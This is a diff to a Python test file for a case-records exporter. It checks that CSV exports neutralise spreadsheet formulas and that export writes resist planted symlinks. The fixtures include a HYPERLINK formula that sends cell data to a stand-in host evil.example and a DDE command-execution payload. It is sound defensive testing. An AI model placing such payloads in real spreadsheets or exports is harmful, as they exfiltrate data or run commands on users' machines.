@@ -2,7 +2,11 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
+import os
+import stat
 from collections.abc import Callable, Iterator
 from dataclasses import replace
 from datetime import UTC, date, datetime
@@ -12,12 +16,14 @@ from zoneinfo import ZoneInfo
 import pytest
 import yaml
 from sqlalchemy import Engine
-from sqlmodel import Session, select
+from sqlmodel import Session, col, select
 
 import storage.db
 from storage.casefile import CaseFile, CaseFileError, parse_case_file
-from storage.csvfile import COLUMNS, parse_csv, write_csv
+from storage.csvfile import COLUMNS, parse_csv
+from storage.csvwrite import write_csv
 from storage.exporter import collect_case_file, export_cases, export_file
+from storage.filesafety import guard_cell, unguard_cell
 from storage.importer import SAMPLE_FILE, ImportReport, import_file
 from storage.models import Case, CaseName, Court, Hearing, Person, TimelineEvent
 from storage.names import name_key
@@ -575,3 +581,193 @@ def test_yaml_hearing_zone_and_a_sentence_without_term(make_db: MakeDb, tmp_path
             "format: casebot-cases/1\ncases:\n  - slug: r\n    names: [{lang: en, text: R}]\n"
             "    sentence: {term: 1y, ratio: abc}\n"
         )
+
+
+# --------------------------------------------------------------------------- formulas
+
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?"&A1,"Click me")',
+    "+7 701 000 00 00",
+    "-5 years",
+    "@SUM(A1:A9)",
+    "'=already guarded by hand",
+    "''two quotes",
+    "'Twas a quote, and stays one",
+    "'",
+]
+
+
+def add_formula_case(session: Session) -> None:
+    """A case whose names and texts a spreadsheet would run as formulas."""
+    case = Case(
+        slug="formula-case",
+        summary={"en": "=1+1 is not a summary"},
+        summary_lang="en",
+    )
+    session.add(case)
+    session.flush()
+    assert case.id is not None
+    for text in [*FORMULAS, "Plain Name"]:
+        session.add(CaseName(case_id=case.id, lang="alias", text=text, key=name_key(text)))
+    session.add(
+        Person(
+            case_id=case.id,
+            role="organisation",
+            name={"en": "=cmd|' /C calc'!A0"},
+            note={"ru": "- список, а не формула", "en": "@organizer"},
+        )
+    )
+    session.add(
+        TimelineEvent(
+            case_id=case.id,
+            occurred_on=date(2024, 3, 1),
+            precision="day",
+            lang="en",
+            text={"en": "- a legitimate text starting with a dash"},
+            source_title="+ a title",
+            source_outlet="@outlet",
+        )
+    )
+
+
+def test_guard_cell_is_undone_exactly_by_unguard_cell() -> None:
+    samples = [*FORMULAS, "", "plain", "\tTab", "\rCR", "'\t", "'''", "a=b", " =x", "'-", "-"]
+    for text in samples:
+        guarded = guard_cell(text)
+        assert unguard_cell(guarded) == text, text
+        assert guarded[:1] not in ("=", "+", "-", "@", "\t", "\r"), text
+        if guarded == text:
+            assert unguard_cell(text) == text, text
+    assert guard_cell("=1+1") == "'=1+1" and guard_cell("'Twas") == "'Twas"
+    assert guard_cell("'=1") == "''=1" and unguard_cell("'=1") == "=1"
+
+
+def test_csv_export_neutralises_formulas_and_round_trips(
+    full_db: Engine, make_db: MakeDb, tmp_path: Path
+) -> None:
+    with storage.db.session_scope(full_db) as session:
+        add_formula_case(session)
+    first, second = tmp_path / "first.csv", tmp_path / "second.csv"
+    with storage.db.session_scope(full_db) as session:
+        export_file(session, first)
+        yaml_text = export_cases(session)
+    text = first.read_text(encoding="utf-8-sig")
+    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert "'=HYPERLINK(" in text and "'-5 years" in text and "''two quotes" in text
+    assert "'''=already guarded by hand" not in text and "''=already guarded by hand" in text
+    assert ",'Twas a quote, and stays one" not in text  # quoted by csv for its comma
+    assert '"\'Twas a quote, and stays one"' in text
+    assert "=HYPERLINK(" in yaml_text and "'=HYPERLINK(" not in yaml_text  # YAML as it is
+    copy = make_db("copy.db")
+    with storage.db.session_scope(copy) as session:
+        report = import_file(session, first, default_tz=TZ)
+    assert "formula-case" in report.added
+    assert rows(copy) == rows(full_db)
+    with storage.db.session_scope(copy) as session:
+        export_file(session, second)
+        assert export_cases(session) == yaml_text
+    assert second.read_bytes() == first.read_bytes()
+
+
+def test_a_hand_written_csv_drops_only_a_guarding_quote(make_db: MakeDb, tmp_path: Path) -> None:
+    path = tmp_path / "hand.csv"
+    path.write_text(
+        "record,case,lang,text\n"
+        "case,q,,\n"
+        "name,q,en,'=SUM(1)\n"
+        "name,q,alias,'Twas\n"
+        "name,q,alias,'-dash\n"
+        "name,q,alias,''quote\n",
+        encoding="utf-8",
+    )
+    engine = make_db("hand.db")
+    with storage.db.session_scope(engine) as session:
+        import_file(session, path, default_tz=TZ)
+    with storage.db.session_scope(engine) as session:
+        names = session.exec(select(CaseName.text).order_by(col(CaseName.id))).all()
+    assert names == ["=SUM(1)", "'Twas", "-dash", "'quote"]
+
+
+# --------------------------------------------------------------------------- writing the file
+
+
+def test_export_never_writes_through_a_link_at_its_temporary_path(
+    full_db: Engine, tmp_path: Path
+) -> None:
+    victim = tmp_path / "victim.txt"
+    victim.write_text("keep me", encoding="utf-8")
+    folder = tmp_path / "exports"
+    folder.mkdir()
+    for name in ("cases.yaml", "cases.csv"):
+        planted = folder / f".{name}.partial"  # where the export used to write first
+        planted.symlink_to(victim)
+        with storage.db.session_scope(full_db) as session:
+            export_file(session, folder / name)
+        assert victim.read_text(encoding="utf-8") == "keep me"
+        target = folder / name
+        assert target.is_file() and not target.is_symlink()
+        head = target.read_text(encoding="utf-8-sig").splitlines()[0]
+        assert head == ("format: casebot-cases/1" if name.endswith(".yaml") else ",".join(COLUMNS))
+        assert planted.is_symlink() and planted.resolve() == victim.resolve()
+    assert sorted(p.name for p in folder.iterdir()) == [
+        ".cases.csv.partial",
+        ".cases.yaml.partial",
+        "cases.csv",
+        "cases.yaml",
+    ]
+
+
+def test_export_skips_a_temporary_name_someone_planted(
+    full_db: Engine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    names = iter(["planted", "fresh"])
+    monkeypatch.setattr("storage.filesafety.secrets.token_hex", lambda _size: next(names))
+    victim = tmp_path / "victim.txt"
+    victim.write_text("keep me", encoding="utf-8")
+    planted = tmp_path / ".cases.yaml.planted.partial"
+    planted.symlink_to(victim)
+    with storage.db.session_scope(full_db) as session:
+        export_file(session, tmp_path / "cases.yaml")
+    assert victim.read_text(encoding="utf-8") == "keep me" and planted.is_symlink()
+    assert (tmp_path / "cases.yaml").read_text(encoding="utf-8").startswith("format: ")
+    assert not (tmp_path / ".cases.yaml.fresh.partial").exists()
+
+
+def test_a_failed_export_leaves_no_file_behind(
+    full_db: Engine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    def refuse(*_args: object) -> None:
+        raise OSError("disk full")
+
+    monkeypatch.setattr("storage.filesafety.os.replace", refuse)
+    with storage.db.session_scope(full_db) as session, pytest.raises(OSError, match="disk full"):
+        export_file(session, tmp_path / "cases.yaml")
+    assert list(tmp_path.glob("*cases*")) == []
+
+
+def test_export_files_get_the_usual_permissions(full_db: Engine, tmp_path: Path) -> None:
+    previous = os.umask(0o027)
+    try:
+        with storage.db.session_scope(full_db) as session:
+            export_file(session, tmp_path / "cases.csv")
+    finally:
+        os.umask(previous)
+    assert stat.S_IMODE((tmp_path / "cases.csv").stat().st_mode) == 0o640
+
+
+def test_export_refuses_an_existing_file_unless_told_to_overwrite(
+    full_db: Engine, tmp_path: Path
+) -> None:
+    path = tmp_path / "cases.yaml"
+    path.write_text("precious", encoding="utf-8")
+    dangling = tmp_path / "dangling.csv"
+    dangling.symlink_to(tmp_path / "nowhere")
+    with storage.db.session_scope(full_db) as session:
+        for existing in (path, dangling):
+            with pytest.raises(FileExistsError):
+                export_file(session, existing)
+        assert path.read_text(encoding="utf-8") == "precious"
+        assert not (tmp_path / "nowhere").exists()
+        report = export_file(session, path, overwrite=True)
+    assert report.cases == 7 and path.read_text(encoding="utf-8").startswith("format: ")
